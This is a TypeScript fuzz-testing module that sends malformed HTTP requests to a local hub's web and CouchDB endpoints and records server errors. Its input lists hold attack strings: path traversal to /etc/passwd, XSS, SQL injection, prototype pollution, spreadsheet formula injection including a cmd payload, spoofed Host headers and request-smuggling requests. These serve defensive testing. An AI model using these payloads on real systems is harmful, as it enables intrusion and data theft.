import { connect } from 'node:net';
import fc from 'fast-check';
import { POSTABLE_SUBMISSION_TYPES } from '../../../content/index.js';
import { send, type SendOptions } from './http.js';
import type { FaultTally } from './tally.js';

/** Strings that have broken servers before: traversal, bad escapes, odd Unicode, injection, the very long. */
const NASTY = [
  '..',
  '../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%2e%2e%2f',
  '..%c0%af',
  '%00',
  '\u0000',
  '%',
  '%%',
  '%ZZ',
  '%E0%A4%A',
  '\uFEFF',
  '\u202Eevil',
  'İı',
  'ﬁ',
  '\uD800',
  '\uDFFF',
  '🇲🇱',
  'ɛɔŋ',
  'Sɛbɛn',
  '<script>alert(1)</script>',
  "' OR 1=1 --",
  '_design/x',
  '_local/x',
  '_all_docs',
  'constructor',
  '__proto__',
  'prototype',
  'toString',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  '9007199254740993',
  '0x10',
  ' ',
  '\t',
  '/',
  '//',
  '\\',
  'a'.repeat(5000),
  'é'.repeat(3000),
  'media:' + 'a'.repeat(64),
  'a'.repeat(64),
  'A'.repeat(64),
  'a'.repeat(64) + '.mp4',
  'a'.repeat(63) + 'g',
  // Issue #20: what reaches a spreadsheet or reorders a name on screen.
  '=HYPERLINK("http://x.example/?"&A1;"x")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '＝1+1',
  '\u2066x\u2069',
  '\u0085',
  '\u001b[31m',
  // CouchDB parameters as the attacker sent them.
  '{"a":1}',
  '[1]',
  '["zz"]',
  '["1-abc"]',
  'all',
  '[]',
  '{}',
  '"x"',
  'true',
  'now',
  '1-abc',
];

const text = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 20 }) }
);

/** How a piece of text goes into a URL: escaped, double-escaped, or raw with only the bytes HTTP forbids escaped. */
function inUrl(s: string, how: 'escaped' | 'double' | 'raw'): string {
  const bytes = Buffer.from(s, 'utf8');
  const esc = (keep: RegExp) =>
    [...bytes].map((b) => (keep.test(String.fromCharCode(b)) ? String.fromCharCode(b) : `%${b.toString(16).padStart(2, '0').toUpperCase()}`)).join('');
  if (how === 'raw') return esc(/[!-~]/);
  const once = esc(/[A-Za-z0-9\-_.~]/);
  return how === 'double' ? once.replace(/%/g, '%25') : once;
}
const seg = fc.tuple(text, fc.constantFrom<'escaped' | 'double' | 'raw'>('escaped', 'double', 'raw')).map(([s, how]) => inUrl(s, how));

const GET_PATHS: ((a: string, b: string) => string)[] = [
  (a) => `/api/v1/content/${a}`,
  (a, b) => `/api/v1/content?type=${a}&lang=${b}&limit=${b}&skip=${a}`,
  (a, b) => `/api/v1/content?type=official&limit=${a}&skip=${b}`,
  (a, b) => `/api/v1/search?q=${a}&lang=${b}&limit=${b}`,
  (a) => `/media/${a}`,
  (a) => `/db/content/${a}`,
  (a, b) => `/db/content/_changes?since=${a}&limit=${b}&style=${a}&feed=${b}&include_docs=${a}`,
  (a) => `/db/content/_local/${a}`,
  (a, b) => `/db/content/course:gouvernance-locale?open_revs=${a}&revs=${b}`,
  (a, b) => `/db/content/${a}?atts_since=${b}&rev=${a}&latest=${b}&attachments=${a}`,
  (a, b) => `/db/content/course:gouvernance-locale?open_revs=${a}&open_revs=${b}&conflicts=${a}&revs_info=${b}`,
  (a, b) => `/db/content/_changes?feed=longpoll&since=${a}&heartbeat=${b}&timeout=${b}&seq_interval=${a}&filter=${b}`,
  (a, b) => `/apprendre/${a}/${b}`,
  (a) => `/apprendre/${a}`,
  (a) => `/apprendre/quiz/${a}`,
  (a) => `/apprendre/lecon/${a}`,
  (a) => `/sinformer/${a}`,
  (a) => `/elus/${a}`,
  (a) => `/participer/${a}`,
  (a) => `/langue/${a}`,
  (a) => `/static/${a}`,
  (a, b) => `/hors-ligne/liste/${a}/${b}`,
  (a) => `/api/v1/submissions/${a}/status`,
  (a) => `/api/v1/consultations/${a}/results`,
  (a, b) => `/recherche?q=${a}&type=${b}`,
  (a) => `/${a}`,
  (a, b) => `/${a}/${b}`,
  (a) => `/admin/${a}`,
  (a, b) => `/?lang=${a}&${b}=${a}`,
  (a) => `/agenda?mois=${a}`,
  (a) => `/kiosk?${a}`,
];

const POST_PATHS = [
  ...POSTABLE_SUBMISSION_TYPES.map((t) => `/api/v1/submissions/${t}`),
  '/api/v1/submissions/x',
  '/db/content/_bulk_get',
  '/db/content/_revs_diff',
  '/inscription',
  '/participer/eau',
  '/elus/x/message',
  '/apprendre/quiz/x',
  '/apprendre/x/1/fini',
  '/admin/login',
  '/bienvenue/entrer',
];

function nested(depth: number, open: string, close: string): string {
  return open.repeat(depth) + close.repeat(depth);
}

const jsonBody = fc.oneof(
  fc.jsonValue({ maxDepth: 4 }).map((v) => JSON.stringify(v)),
  fc
    .record({ fullName: fc.anything(), sex: fc.anything(), ageBand: fc.anything(), commune: fc.anything(), consent: fc.anything() })
    .map((v) => JSON.stringify(v)),
  fc.record({ consultation: text, option: text, deviceId: text, sex: text, ageBand: text }, { requiredKeys: [] }).map((v) => JSON.stringify(v)),
  fc.record({ official: text, message: text, audio: fc.record({ mime: text, data: text }) }, { requiredKeys: [] }).map((v) => JSON.stringify(v)),
  fc.record({ docs: fc.array(fc.record({ id: text, rev: text })) }).map((v) => JSON.stringify(v)),
  fc.dictionary(text, fc.array(text)).map((v) => JSON.stringify(v)),
  fc.integer({ min: 1, max: 20_000 }).map((d) => nested(d, '[', ']')),
  fc.integer({ min: 1, max: 20_000 }).map((d) => nested(d, '{"a":', '}').replace(/}+$/, (m) => '1' + m)),
  fc.constantFrom(
    '{',
    '{"a":',
    '[1,2',
    'nul',
    '"\\ud800"',
    '{"__proto__":{"x":1}}',
    '{"constructor":{"prototype":{"x":1}}}',
    '\u0000',
    '',
    '{}',
    '[]',
    '1',
    'true',
    '"x"'
  ),
  text
);
const formBody = fc
  .dictionary(
    fc.oneof(text, fc.constantFrom('fullName', 'sex', 'ageBand', 'commune', 'consent', 'option', 'message', 'username', 'password', 'a[b]', 'a[]', '_csrf')),
    text
  )
  .map((d) =>
    Object.entries(d)
      .map(([k, v]) => `${inUrl(k, 'escaped')}=${inUrl(v, 'escaped')}`)
      .join('&')
  );
const hugeBody = fc.constantFrom(70 * 1024, 1024 * 1024, 6 * 1024 * 1024).map((n) => `{"fullName":"${'x'.repeat(n)}"}`);

const CONTENT_TYPES = [
  'application/json',
  'application/json; charset=utf-8',
  'application/json; charset=utf-16',
  'application/json; charset=klingon',
  'application/x-www-form-urlencoded',
  'text/plain',
  'multipart/form-data; boundary=x',
  'multipart/form-data',
  'application/octet-stream',
  '',
  '*/*',
  'application/json, text/html',
  'application/vnd.api+json',
];

/** Header values that are legal on the wire (visible latin-1) but mean nothing good. */
const headerValue = fc.oneof(
  fc.constantFrom(
    '',
    ' ',
    'bytes=0-0',
    'bytes=-1',
    'bytes=5-1',
    'bytes=0-0,1-1,2-2,3-3,4-4,5-5,6-6,7-7',
    'bytes=99999999999999-',
    'bytes=abc',
    'items=0-1',
    '*',
    'gzip;q=NaN',
    'x'.repeat(8000),
    '"x"',
    'W/"x"',
    'fr;q=2, bm;q=-1, *;q=0',
    'zz-ZZ',
    'lang=xx; espace_session=../../etc; espace_session=' + 'a'.repeat(500)
  ),
  fc.string({ unit: 'binary-ascii', maxLength: 60 }).map((s) => s.replace(/[^\t\x20-\x7e]/g, '')),
  fc.string({ unit: 'binary', maxLength: 30 }).map((s) =>
    Buffer.from(s, 'utf8')
      .toString('latin1')
      .replace(/[^\t\x20-\x7e\x80-\xff]/g, '')
  )
);
const headers = fc.record(
  {
    host: fc.oneof(
      headerValue,
      fc.constantFrom('evil.example', 'espace.home.arpa', 'localhost:1', '[::1]', '127.0.0.1:0', 'a'.repeat(300), 'espace.home.arpa.evil.example')
    ),
    'accept-language': headerValue,
    cookie: headerValue,
    range: headerValue,
    'if-none-match': headerValue,
    'if-modified-since': headerValue,
    'accept-encoding': headerValue,
    'x-forwarded-for': headerValue,
    'x-forwarded-host': headerValue,
    accept: headerValue,
    'user-agent': headerValue,
  },
  { requiredKeys: [] }
);

export interface FuzzCase {
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: string;
}

export const fuzzCase: fc.Arbitrary<FuzzCase> = fc.oneof(
  fc
    .record({ fn: fc.constantFrom(...GET_PATHS), a: seg, b: seg, headers, method: fc.constantFrom('GET', 'GET', 'GET', 'HEAD', 'OPTIONS', 'DELETE', 'PUT') })
    .map(({ fn, a, b, headers: h, method }) => ({ method, path: fn(a, b), headers: h })),
  // Checkpoints a replicator writes on the source: bounded ids, bodies, revisions (issue #20).
  fc.record({ id: seg, body: jsonBody, method: fc.constantFrom('PUT', 'PUT', 'DELETE', 'GET'), headers }).map(({ id, body, method, headers: h }) => ({
    method,
    path: `/db/content/_local/${id}${method === 'DELETE' ? '?rev=0-1' : ''}`,
    headers: { ...h, 'content-type': 'application/json' },
    ...(method === 'PUT' ? { body } : {}),
  })),
  fc
    .record({
      path: fc.constantFrom(...POST_PATHS),
      body: fc.oneof({ weight: 6, arbitrary: jsonBody }, { weight: 3, arbitrary: formBody }, { weight: 1, arbitrary: hugeBody }),
      type: fc.constantFrom(...CONTENT_TYPES),
      headers,
    })
    .map(({ path, body, type, headers: h }) => ({ method: 'POST', path, body, headers: { ...h, ...(type ? { 'content-type': type } : {}) } }))
);

/** Requests no HTTP client library would send: the hub (node's parser) must answer 4xx or close, never fall over. */
const RAW_REQUESTS = [
  'GET / HTTP/1.1\r\nHost:\r\n\r\n',
  'GET /../../../etc/passwd HTTP/1.1\r\nHost: espace.home.arpa\r\n\r\n',
  'GET http://evil.example/admin HTTP/1.1\r\nHost: evil.example\r\n\r\n',
  'FOO / HTTP/1.1\r\nHost: x\r\n\r\n',
  'GET / HTTP/9.9\r\nHost: x\r\n\r\n',
  `GET / HTTP/1.1\r\nHost: x\r\nX-Big: ${'a'.repeat(20_000)}\r\n\r\n`,
  'GET / HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n',
  'POST /api/v1/submissions/registration HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n',
  'POST /api/v1/submissions/registration HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
  'POST /api/v1/submissions/registration HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{"a":1}',
  'POST /api/v1/submissions/registration HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: -1\r\n\r\n',
  'GET /media/../../etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n',
  'GET /static/..%2f..%2fpackage.json HTTP/1.1\r\nHost: x\r\n\r\n',
  'GET /\x00 HTTP/1.1\r\nHost: x\r\n\r\n',
  'GET / HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nContent-Length: 7\r\n\r\n',
  '\r\n\r\n\r\n',
];

function rawStatus(base: string, request: string): Promise<number> {
  const url = new URL(base);
  return new Promise((resolve) => {
    const socket = connect(Number(url.port), url.hostname);
    let got = '';
    const done = () => {
      socket.destroy();
      const m = /^HTTP\/1\.\d (\d{3})/.exec(got);
      resolve(m ? Number(m[1]) : 0);
    };
    socket.setTimeout(3000, done);
    socket.on('data', (c: Buffer) => {
      got += c.toString('latin1');
      if (got.includes('\r\n')) done();
    });
    socket.on('error', done);
    socket.on('end', done);
    socket.write(request, 'latin1');
    // Half-close so a request waiting for a body it will never get is answered or dropped.
    setTimeout(() => socket.end(), 500);
  });
}

/** The bytes of a case's request line and headers, about (what Node's --max-http-header-size bounds). */
function headSize(c: FuzzCase): number {
  return (
    Buffer.byteLength(`${c.method} ${c.path} HTTP/1.1\r\n`) + Object.entries(c.headers ?? {}).reduce((n, [k, v]) => n + Buffer.byteLength(`${k}: ${v}\r\n`), 0)
  );
}

async function sendCase(tally: FaultTally, base: string, c: FuzzCase): Promise<number> {
  let status: number;
  let body = '';
  try {
    const res = await send(base, c.path, { method: c.method, headers: c.headers, body: c.body, timeoutMs: 20_000 } satisfies SendOptions);
    status = res.status;
    body = res.body.toString().slice(0, 160);
  } catch (e) {
    // A refused huge body may be cut off while it is still being sent: the hub closed the socket on purpose.
    if (c.body && c.body.length > 64 * 1024 && /EPIPE|ECONNRESET|socket hang up/.test(String(e))) status = 413;
    // So may a request line and headers past Node's 16 KB: its parser answers 431 and closes,
    // and a client still writing them sees the reset instead (seen once in CI, a 25 KB query).
    else if (headSize(c) > 16 * 1024 && /EPIPE|ECONNRESET|socket hang up/.test(String(e))) status = 431;
    else throw e;
  }
  tally.requestsFuzzed += 1;
  if (status >= 500) {
    tally.fiveXX += 1;
    tally.problem(
      `${c.method} ${c.path.slice(0, 160)} ${JSON.stringify(c.headers).slice(0, 200)} body ${JSON.stringify((c.body ?? '').slice(0, 120))} → ${status} ${body}`
    );
  }
  return status;
}

export interface FuzzOptions {
  runs: number;
  seed?: number;
  /**
   * assert: stop at the first 5xx and let fast-check shrink it to a minimal reproduction;
   * collect: send every case and count every 5xx (the long suite's summary).
   */
  mode: 'assert' | 'collect';
  /** Leave these out (a known bug, named where it is passed), so the rest still guards. */
  skip?: (c: FuzzCase) => boolean;
  skipRaw?: (raw: string) => boolean;
}

/**
 * Fuzzes every public endpoint with fast-check-generated requests plus a fixed set of raw
 * malformed ones; every request is counted in the tally, every 5xx recorded with its request.
 */
export async function fuzzHub(tally: FaultTally, base: string, opts: FuzzOptions): Promise<void> {
  for (const raw of RAW_REQUESTS) {
    if (opts.skipRaw?.(raw)) continue;
    const status = await rawStatus(base, raw);
    tally.requestsFuzzed += 1;
    if (status >= 500) {
      tally.fiveXX += 1;
      tally.problem(`raw request answered ${status}: ${JSON.stringify(raw.slice(0, 120))}`);
    }
  }
  const seed = opts.seed ?? Date.now() % 2 ** 31;
  const cases = opts.skip ? fuzzCase.filter((c) => !opts.skip!(c)) : fuzzCase;
  if (opts.mode === 'collect') {
    const all = fc.sample(cases, { numRuns: opts.runs, seed });
    // Four phones at once, like a busy evening at the centre.
    for (let i = 0; i < all.length; i += 4) await Promise.all(all.slice(i, i + 4).map((c) => sendCase(tally, base, c)));
    return;
  }
  await fc.assert(
    fc.asyncProperty(cases, async (c) => (await sendCase(tally, base, c)) < 500),
    { numRuns: opts.runs, seed, endOnFailure: true }
  );
}
